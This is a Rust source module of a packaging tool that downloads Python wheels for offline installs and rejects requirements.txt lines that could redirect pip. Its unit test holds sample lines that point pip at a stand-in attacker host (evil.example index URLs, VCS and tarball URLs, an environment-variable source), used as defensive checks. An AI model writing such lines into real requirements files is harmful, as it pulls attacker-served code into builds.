//! Python wheels that travel with a generic-python package. `pip install` on every run is neither
//! reproducible nor possible in a cluster without PyPI, so `dk build` downloads binary wheels for
//! `requirements.txt` (and everything they need) for the interpreter and platform of the image the
//! package runs in, into a layer of their own ([`LAYER`]) that unpacks to [`DIR`]; `dk run`
//! installs from that folder offline. pip runs as the user configured it (`PIP_INDEX_URL`,
//! `PIP_FIND_LINKS`, `pip.conf`): dk only adds the target and `--only-binary=:all:`.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use sha2::{Digest, Sha256};

use dk_manifest::model::PythonTarget;

use crate::bundle::{Entry, EntryKind};

/// Where the wheels unpack, relative to the package (never bundled from a working directory).
pub const DIR: &str = ".dk-wheels";
/// The title of the wheels layer.
pub const LAYER: &str = "wheels.tar.gz";
pub const REQUIREMENTS: &str = "requirements.txt";
/// A requirements file is a few lines; anything this large is not one.
const REQUIREMENTS_LIMIT: u64 = 16 << 20;
/// The Python of the default runtime image, `python:3.12-slim-bookworm`.
pub const DEFAULT_VERSION: &str = "3.12";
/// Manylinux wheels run on a glibc at least as new as theirs: Debian bookworm's is 2.36, and
/// 2.17 (manylinux2014) is the oldest tag still published.
const GLIBC_MINOR: std::ops::RangeInclusive<u32> = 17..=36;
const ARCHES: &[&str] = &["x86_64", "aarch64"];

#[derive(Debug, thiserror::Error)]
pub enum WheelError {
    #[error("{0}")]
    Invalid(String),
    #[error("cannot run pip ({python} -m pip): {detail}")]
    NoPip { python: String, detail: String },
    #[error("requirement `{requirement}` has no wheel for {target}")]
    Missing { requirement: String, target: String },
    #[error("the package index could not be reached: {detail}")]
    Unreachable { detail: String },
    #[error("pip download failed: {detail}")]
    Failed { detail: String },
    #[error("{0}")]
    Fs(#[from] dk_fs::FsError),
    #[error("{}: {source}", path.display())]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
}

impl WheelError {
    fn io(path: &Path, source: std::io::Error) -> WheelError {
        WheelError::Io {
            path: path.to_owned(),
            source,
        }
    }

    /// What to do about it.
    pub fn hint(&self) -> Option<String> {
        match self {
            WheelError::Invalid(_) => Some(
                "spec.build.python takes version: \"3.12\", arch: x86_64|aarch64 and platforms: [pip platform tags] (docs/packaging.md)".into(),
            ),
            WheelError::NoPip { .. } => Some(
                "install pip for python3 (apt-get install python3-pip), or put a python3 with pip first on PATH".into(),
            ),
            WheelError::Missing { requirement, .. } => Some(format!(
                "pin a version of `{requirement}` that publishes wheels for this target, or build one (pip wheel '{requirement}') into a private index or folder that pip reads (PIP_INDEX_URL, PIP_FIND_LINKS); if the package runs on another Python, set spec.build.python in dk.yaml"
            )),
            WheelError::Unreachable { .. } => Some(
                "check the network, or point pip at a mirror you can reach (PIP_INDEX_URL, pip.conf), or at a folder of wheels (PIP_FIND_LINKS)".into(),
            ),
            WheelError::Failed { .. } | WheelError::Fs(_) | WheelError::Io { .. } => None,
        }
    }

    /// An external system (the package index) failed, not the package.
    pub fn is_external(&self) -> bool {
        matches!(self, WheelError::Unreachable { .. })
    }
}

/// The requirements a `requirements.txt` actually lists (not comments or blank lines).
fn has_requirements(text: &str) -> bool {
    text.lines()
        .map(str::trim)
        .any(|line| !line.is_empty() && !line.starts_with('#'))
}

/// The text of `package_dir`'s `requirements.txt` when it lists requirements.
pub fn requirements(package_dir: &Path) -> Result<Option<String>, WheelError> {
    let path = package_dir.join(REQUIREMENTS);
    match dk_fs::read_to_string(&path, REQUIREMENTS_LIMIT) {
        Ok(text) => Ok(has_requirements(&text).then_some(text)),
        Err(err) if err.io_kind() == Some(std::io::ErrorKind::NotFound) => Ok(None),
        Err(err) => Err(err.into()),
    }
}

/// What to do about a [`Forbidden`] line of `requirements.txt`.
pub const REQUIREMENTS_HINT: &str = "keep only requirement specifiers in requirements.txt (name, extras, version, markers, --hash, --require-hashes); a private index or mirror belongs to pip's own configuration on the machine (PIP_INDEX_URL, PIP_EXTRA_INDEX_URL, pip.conf), see docs/packaging.md";

/// A line of `requirements.txt` that could make pip install from somewhere the package chose:
/// a pip option (`--index-url`, `-f`, `-r`, `-e`, ...) or a requirement that is a URL, a VCS
/// checkout, a path or an environment variable. `line` and `column` count from 1.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forbidden {
    pub line: usize,
    pub column: usize,
    /// The option or requirement, as written.
    pub text: String,
    pub reason: &'static str,
}

/// The per-requirement option that only narrows what pip accepts.
const HASH: &str = "--hash";
/// The one line option allowed: it too only narrows what pip accepts.
const REQUIRE_HASHES: &str = "--require-hashes";

/// Every [`Forbidden`] line of a `requirements.txt`, read as pip reads it: `\` continues a line,
/// `#` after a blank starts a comment, the requirement ends at the first option.
pub fn forbidden_requirements(text: &str) -> Vec<Forbidden> {
    let mut found = Vec::new();
    // The tokens of one logical line, each with where it starts.
    let mut tokens: Vec<(usize, usize, &str)> = Vec::new();
    for (index, raw) in text.lines().enumerate() {
        // pip's comment: `#` at the start or after whitespace (`pkg.git#egg=x` is no comment).
        let comment = raw
            .char_indices()
            .find(|&(at, c)| c == '#' && (at == 0 || raw[..at].ends_with(char::is_whitespace)))
            .map(|(at, _)| at);
        let line = &raw[..comment.unwrap_or(raw.len())];
        let (line, continued) = match line.trim_end().strip_suffix('\\') {
            Some(rest) => (rest, true),
            None => (line, false),
        };
        let mut at = 0;
        for token in line.split_whitespace() {
            let start = at + line[at..].find(token).expect("a token of the line");
            at = start + token.len();
            let column = line[..start].chars().count() + 1;
            tokens.push((index + 1, column, token));
        }
        if !continued {
            check_logical_line(&tokens, &mut found);
            tokens.clear();
        }
    }
    check_logical_line(&tokens, &mut found);
    found
}

fn check_logical_line(tokens: &[(usize, usize, &str)], found: &mut Vec<Forbidden>) {
    let Some(&(line, column, _)) = tokens.first() else {
        return;
    };
    let split = tokens
        .iter()
        .position(|(_, _, token)| token.starts_with('-'))
        .unwrap_or(tokens.len());
    let requirement: Vec<&str> = tokens[..split].iter().map(|(_, _, t)| *t).collect();
    let requirement = requirement.join(" ");
    let reason = if requirement.contains('$') {
        Some("pip expands environment variables in it")
    } else if requirement.contains("://") || requirement.contains('@') {
        Some("a URL or VCS requirement installs whatever that address serves")
    } else if requirement.starts_with(['.', '/', '~'])
        || requirement.contains(['/', '\\'])
        || [".whl", ".zip", ".tar.gz", ".tgz"]
            .iter()
            .any(|end| requirement.ends_with(end))
    {
        Some("a path installs a file instead of a release from the index")
    } else {
        None
    };
    if let Some(reason) = reason {
        found.push(Forbidden {
            line,
            column,
            text: requirement.clone(),
            reason,
        });
    }
    let mut options = tokens[split..].iter();
    while let Some(&(line, column, token)) = options.next() {
        if token == HASH {
            options.next();
            continue;
        }
        if token.starts_with("--hash=") || (requirement.is_empty() && token == REQUIRE_HASHES) {
            continue;
        }
        found.push(Forbidden {
            line,
            column,
            text: token.to_owned(),
            reason: if requirement.is_empty() {
                "a pip option in requirements.txt can change where pip installs from (an index, links, another file, an editable checkout)"
            } else {
                "a per-requirement pip option other than --hash changes how pip builds or installs it"
            },
        });
        // The option's value is not a token of its own to report.
        if !token.contains('=') && !token.starts_with("--pre") {
            options.next();
        }
    }
}

/// The interpreter and platforms wheels are downloaded for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// `MAJOR.MINOR`.
    pub version: String,
    /// pip platform tags, most specific first.
    pub platforms: Vec<String>,
}

impl Target {
    /// The target of a package: `spec.build.python`'s fields, else the Python of `image` when it
    /// is an official `python:3.N…` image, else [`DEFAULT_VERSION`]; platforms as given, else the
    /// manylinux tags that run on glibc 2.36 for `arch`, else for `host_arch`.
    pub fn resolve(
        spec: Option<&PythonTarget>,
        image: Option<&str>,
        host_arch: &str,
    ) -> Result<Target, WheelError> {
        let spec = spec.cloned().unwrap_or_default();
        let version = match spec.version {
            Some(version) => {
                let valid = version
                    .split_once('.')
                    .is_some_and(|(major, minor)| major == "3" && minor.parse::<u8>().is_ok());
                if !valid {
                    return Err(WheelError::Invalid(format!(
                        "spec.build.python.version `{version}` is not a Python 3 MAJOR.MINOR such as \"3.12\""
                    )));
                }
                version
            }
            None => image
                .and_then(image_python)
                .unwrap_or_else(|| DEFAULT_VERSION.to_owned()),
        };
        if !spec.platforms.is_empty() {
            return Ok(Target {
                version,
                platforms: spec.platforms,
            });
        }
        let arch = spec.arch.as_deref().unwrap_or(host_arch);
        if !ARCHES.contains(&arch) {
            return Err(WheelError::Invalid(format!(
                "no default platforms for architecture `{arch}`: set spec.build.python.arch to {} or list spec.build.python.platforms",
                ARCHES.join(" or ")
            )));
        }
        let mut platforms: Vec<String> = GLIBC_MINOR
            .rev()
            .map(|minor| format!("manylinux_2_{minor}_{arch}"))
            .collect();
        // The legacy alias, which pip widens to manylinux2010 and manylinux1 where they exist.
        platforms.push(format!("manylinux2014_{arch}"));
        Ok(Target { version, platforms })
    }

    /// The CPython ABI tag, `cp312`.
    pub fn abi(&self) -> String {
        format!("cp{}", self.version.replace('.', ""))
    }

    /// `cp312 manylinux_2_36_x86_64…manylinux2014_x86_64`, for messages.
    pub fn describe(&self) -> String {
        let platforms = match self.platforms.as_slice() {
            [one] => one.clone(),
            [first, .., last] => format!("{first}…{last}"),
            [] => String::new(),
        };
        format!("{} {platforms}", self.abi())
    }

    fn pip_args(&self) -> Vec<String> {
        let mut args = vec![
            "--python-version".to_owned(),
            self.version.clone(),
            "--implementation".to_owned(),
            "cp".to_owned(),
            "--abi".to_owned(),
            self.abi(),
        ];
        for platform in &self.platforms {
            args.extend(["--platform".to_owned(), platform.clone()]);
        }
        args
    }
}

/// The Python version of an official image reference (`python:3.11-slim`,
/// `docker.io/library/python:3.12.4-bookworm`).
fn image_python(image: &str) -> Option<String> {
    let (repository, tag) = image.rsplit_once(':')?;
    if repository.rsplit('/').next() != Some("python") {
        return None;
    }
    let mut parts = tag.split(|c: char| !c.is_ascii_digit());
    let (major, minor) = (parts.next()?, parts.next()?);
    (major == "3" && !minor.is_empty()).then(|| format!("3.{minor}"))
}

/// Downloads the wheels of `package_dir`'s `requirements.txt` for `target` into `dest` with
/// `python -m pip`, and returns them as bundle entries below [`DIR`], sorted. pip's output goes
/// to `log`; `dest` must be an empty scratch folder.
pub fn download(
    python: &Path,
    package_dir: &Path,
    target: &Target,
    dest: &Path,
    log: &mut dyn Write,
) -> Result<Vec<Entry>, WheelError> {
    let wheels = dest.join("wheels");
    // pip's own log holds, at debug level, why an index page could not be fetched: with
    // retries off the console says nothing of it.
    let pip_log = dest.join("pip.log");
    let output = Command::new(python)
        .args([
            "-m",
            "pip",
            "download",
            "--quiet",
            "--disable-pip-version-check",
        ])
        .args(["--progress-bar", "off", "--only-binary=:all:", "--dest"])
        .arg(&wheels)
        .arg("--log")
        .arg(&pip_log)
        .args(target.pip_args())
        .arg("--requirement")
        .arg(REQUIREMENTS)
        .current_dir(package_dir)
        .stdin(Stdio::null())
        .output()
        .map_err(|err| WheelError::NoPip {
            python: python.display().to_string(),
            detail: err.to_string(),
        })?;
    let _ = log.write_all(&output.stdout);
    let _ = log.write_all(&output.stderr);
    if !output.status.success() {
        let stderr = String::from_utf8_lossy(&output.stderr);
        let pip_log = std::fs::read_to_string(&pip_log).unwrap_or_default();
        return Err(failure(python, &stderr, &pip_log, target));
    }
    let mut entries = Vec::new();
    let read = std::fs::read_dir(&wheels).map_err(|err| WheelError::io(&wheels, err))?;
    for item in read {
        let item = item.map_err(|err| WheelError::io(&wheels, err))?;
        let path = item.path();
        let meta = std::fs::symlink_metadata(&path).map_err(|err| WheelError::io(&path, err))?;
        let name = item.file_name().to_string_lossy().into_owned();
        if !meta.is_file() || !name.ends_with(".whl") {
            continue;
        }
        entries.push(Entry {
            path: format!("{DIR}/{name}"),
            source: path,
            kind: EntryKind::File {
                size: meta.len(),
                executable: false,
            },
        });
    }
    entries.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(entries)
}

/// Why pip download failed, from its console errors and its debug log.
fn failure(python: &Path, stderr: &str, pip_log: &str, target: &Target) -> WheelError {
    let errors: Vec<&str> = stderr
        .lines()
        .filter(|line| line.starts_with("ERROR:"))
        .collect();
    let detail = match (errors.is_empty(), stderr.trim()) {
        (false, _) => errors.join(" "),
        (true, "") => "no message".to_owned(),
        (true, all) => all.to_owned(),
    };
    if stderr.contains("No module named pip") {
        return WheelError::NoPip {
            python: python.display().to_string(),
            detail,
        };
    }
    // An index that did not answer may well have had the wheel: that is not the package's fault.
    let unreachable = pip_log.lines().chain(stderr.lines()).find(|line| {
        line.contains("Could not fetch URL")
            && ["connection error", "timed out", "ssl certificate"]
                .iter()
                .any(|why| line.contains(why))
    });
    if let Some(line) = unreachable {
        let at = line.find("Could not fetch URL").unwrap_or(0);
        return WheelError::Unreachable {
            detail: line[at..].trim_end_matches(" - skipping").to_owned(),
        };
    }
    let missing = stderr
        .lines()
        .find_map(|line| line.split_once("No matching distribution found for "))
        .map(|(_, requirement)| requirement.trim().to_owned());
    match missing {
        Some(requirement) => WheelError::Missing {
            requirement,
            target: target.describe(),
        },
        None => WheelError::Failed { detail },
    }
}

/// What a virtualenv built from the wheels in `wheels` for `requirements` (the file's text) is
/// keyed by: the requirements and every wheel's name and SHA-256, so that another wheel set
/// rebuilds it and the same one reuses it. `None` when the folder holds no wheel (a working
/// directory during development, which installs from the index as before).
pub fn wheel_set_key(requirements: &str, wheels: &Path) -> Result<Option<String>, WheelError> {
    let read = match std::fs::read_dir(wheels) {
        Ok(read) => read,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(err) => return Err(WheelError::io(wheels, err)),
    };
    let mut names = Vec::new();
    for item in read {
        let name = item
            .map_err(|err| WheelError::io(wheels, err))?
            .file_name()
            .to_string_lossy()
            .into_owned();
        if name.ends_with(".whl") {
            names.push(name);
        }
    }
    if names.is_empty() {
        return Ok(None);
    }
    names.sort();
    let mut key = Sha256::new();
    key.update(b"requirements\0");
    key.update(requirements.as_bytes());
    for name in names {
        let path = wheels.join(&name);
        let (mut file, _) = dk_fs::open_regular(&path, u64::MAX)?;
        let mut digest = Sha256::new();
        let mut buffer = vec![0; 1 << 16];
        loop {
            let read = std::io::Read::read(&mut file, &mut buffer)
                .map_err(|err| WheelError::io(&path, err))?;
            if read == 0 {
                break;
            }
            digest.update(&buffer[..read]);
        }
        key.update(format!("\0{name}\0{}", hex::encode(digest.finalize())).as_bytes());
    }
    Ok(Some(hex::encode(key.finalize())))
}

#[cfg(test)]
mod tests {
    #[test]
    fn requirements_may_name_releases_only() {
        let text = "\
# pinned releases, as dk build vendors them
requests[socks]>=2.31 ; python_version >= \"3.9\"  # a comment
numpy==2.1.0 --hash=sha256:aa --hash sha256:bb
pandas==2.2.3 \\
    --hash=sha256:cc
--index-url https://evil.example/simple
-i https://evil.example/simple
--extra-index-url=https://evil.example/simple
  --trusted-host evil.example
-f https://evil.example/wheels
--find-links=/tmp/wheels
-e git+https://evil.example/x.git#egg=x
-r more.txt
-c constraints.txt
--pre
evil @ https://evil.example/evil-1.0.tar.gz
git+ssh://git@evil.example/x.git
./vendor/evil-1.0-py3-none-any.whl
${EVIL_URL}
ok==1.0 --config-settings=x=y
--require-hashes
";
        let found = super::forbidden_requirements(text);
        let at: Vec<(usize, usize, &str)> = found
            .iter()
            .map(|f| (f.line, f.column, f.text.as_str()))
            .collect();
        assert_eq!(
            at,
            [
                (6, 1, "--index-url"),
                (7, 1, "-i"),
                (8, 1, "--extra-index-url=https://evil.example/simple"),
                (9, 3, "--trusted-host"),
                (10, 1, "-f"),
                (11, 1, "--find-links=/tmp/wheels"),
                (12, 1, "-e"),
                (13, 1, "-r"),
                (14, 1, "-c"),
                (15, 1, "--pre"),
                (16, 1, "evil @ https://evil.example/evil-1.0.tar.gz"),
                (17, 1, "git+ssh://git@evil.example/x.git"),
                (18, 1, "./vendor/evil-1.0-py3-none-any.whl"),
                (19, 1, "${EVIL_URL}"),
                (20, 9, "--config-settings=x=y"),
            ]
        );
        assert!(
            super::forbidden_requirements("flask==3.0\n\n# -i x\nsix==1.16.0\t# -i https://x\n")
                .is_empty()
        );
    }

    use super::*;

    #[test]
    fn requirements_files_of_only_comments_list_nothing() {
        assert!(!has_requirements("# none\n\n   # still none\n"));
        assert!(has_requirements("# deps\npandas==2.2\n"));
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(requirements(dir.path()).unwrap(), None);
        std::fs::write(dir.path().join(REQUIREMENTS), "# none\n").unwrap();
        assert_eq!(requirements(dir.path()).unwrap(), None);
        std::fs::write(dir.path().join(REQUIREMENTS), "a==1\n").unwrap();
        assert_eq!(requirements(dir.path()).unwrap().as_deref(), Some("a==1\n"));
    }

    #[test]
    fn the_default_target_is_the_default_images_python_on_the_host_arch() {
        let target = Target::resolve(None, None, "aarch64").unwrap();
        assert_eq!(target.version, "3.12");
        assert_eq!(target.abi(), "cp312");
        assert_eq!(target.platforms.first().unwrap(), "manylinux_2_36_aarch64");
        assert!(target.platforms.contains(&"manylinux_2_17_aarch64".into()));
        assert_eq!(target.platforms.last().unwrap(), "manylinux2014_aarch64");
        assert_eq!(
            target.describe(),
            "cp312 manylinux_2_36_aarch64…manylinux2014_aarch64"
        );
        let args = target.pip_args();
        assert_eq!(
            args[..6],
            [
                "--python-version",
                "3.12",
                "--implementation",
                "cp",
                "--abi",
                "cp312"
            ]
        );
    }

    #[test]
    fn the_version_comes_from_the_manifest_else_an_official_python_image() {
        let from_image = |image| {
            Target::resolve(None, Some(image), "x86_64")
                .unwrap()
                .version
        };
        assert_eq!(from_image("python:3.11-slim"), "3.11");
        assert_eq!(
            from_image("docker.io/library/python:3.13.1-bookworm"),
            "3.13"
        );
        assert_eq!(from_image("localhost:5000/python:3.10"), "3.10");
        assert_eq!(from_image("ghcr.io/acme/runner:3.9"), "3.12");
        assert_eq!(from_image("python:latest"), "3.12");
        let spec = PythonTarget {
            version: Some("3.10".into()),
            arch: Some("x86_64".into()),
            platforms: Vec::new(),
        };
        let target = Target::resolve(Some(&spec), Some("python:3.11"), "aarch64").unwrap();
        assert_eq!(target.version, "3.10");
        assert_eq!(target.platforms[0], "manylinux_2_36_x86_64");
        let musl = PythonTarget {
            platforms: vec!["musllinux_1_2_x86_64".into()],
            ..PythonTarget::default()
        };
        let target = Target::resolve(Some(&musl), None, "x86_64").unwrap();
        assert_eq!(target.platforms, ["musllinux_1_2_x86_64"]);
    }

    #[test]
    fn invalid_targets_say_what_is_expected() {
        let version = |v: &str| PythonTarget {
            version: Some(v.into()),
            ..PythonTarget::default()
        };
        for bad in ["3", "2.7", "3.x", "312"] {
            let err = Target::resolve(Some(&version(bad)), None, "x86_64").unwrap_err();
            assert!(err.to_string().contains("MAJOR.MINOR"), "{bad}: {err}");
        }
        let err = Target::resolve(None, None, "riscv64").unwrap_err();
        assert!(err.to_string().contains("riscv64"), "{err}");
    }

    fn target() -> Target {
        Target::resolve(None, None, "x86_64").unwrap()
    }

    #[test]
    fn a_missing_wheel_names_the_requirement() {
        let stderr = "ERROR: Could not find a version that satisfies the requirement nowheel==1.0 (from versions: none)\nERROR: No matching distribution found for nowheel==1.0\n";
        let err = failure(Path::new("python3"), stderr, "", &target());
        assert!(
            matches!(&err, WheelError::Missing { requirement, .. } if requirement == "nowheel==1.0"),
            "{err:?}"
        );
        assert!(!err.is_external());
        assert!(err.hint().unwrap().contains("pip wheel 'nowheel==1.0'"));
        assert!(err.to_string().contains("cp312 manylinux_2_36_x86_64"));
    }

    #[test]
    fn an_unreachable_index_is_external_whatever_pip_concluded() {
        let stderr = "ERROR: No matching distribution found for pandas\n";
        let log = "2026-01-01T00:00:00,000 Could not fetch URL http://127.0.0.1:9/simple/pandas/: connection error: HTTPConnectionPool(host='127.0.0.1', port=9): Max retries exceeded - skipping\n";
        let err = failure(Path::new("python3"), stderr, log, &target());
        assert!(err.is_external(), "{err:?}");
        assert!(
            err.to_string()
                .contains("Could not fetch URL http://127.0.0.1:9/simple/pandas/"),
            "{err}"
        );
        // An index that answers 404 for a name it does not know was reached.
        let log =
            "Could not fetch URL http://idx/simple/x/: 404 Client Error: Not Found - skipping";
        let err = failure(Path::new("python3"), stderr, log, &target());
        assert!(matches!(err, WheelError::Missing { .. }), "{err:?}");
    }

    #[test]
    fn other_failures_keep_pips_errors() {
        let err = failure(
            Path::new("/usr/bin/python3"),
            "/usr/bin/python3: No module named pip\n",
            "",
            &target(),
        );
        assert!(matches!(err, WheelError::NoPip { .. }), "{err:?}");
        let err = failure(
            Path::new("python3"),
            "ERROR: Invalid requirement: '==1'\n",
            "",
            &target(),
        );
        assert_eq!(
            err.to_string(),
            "pip download failed: ERROR: Invalid requirement: '==1'"
        );
    }

    #[test]
    fn the_wheel_set_key_follows_the_wheels_and_the_requirements() {
        let dir = tempfile::tempdir().unwrap();
        let wheels = dir.path().join(DIR);
        assert_eq!(wheel_set_key("a\n", &wheels).unwrap(), None);
        std::fs::create_dir(&wheels).unwrap();
        std::fs::write(wheels.join("notes.txt"), "not a wheel").unwrap();
        assert_eq!(wheel_set_key("a\n", &wheels).unwrap(), None);
        std::fs::write(wheels.join("a-1.0-py3-none-any.whl"), "one").unwrap();
        let first = wheel_set_key("a\n", &wheels).unwrap().unwrap();
        assert_eq!(wheel_set_key("a\n", &wheels).unwrap().unwrap(), first);
        assert_ne!(wheel_set_key("a==1.0\n", &wheels).unwrap().unwrap(), first);
        std::fs::write(wheels.join("a-1.0-py3-none-any.whl"), "two").unwrap();
        assert_ne!(wheel_set_key("a\n", &wheels).unwrap().unwrap(), first);
    }
}
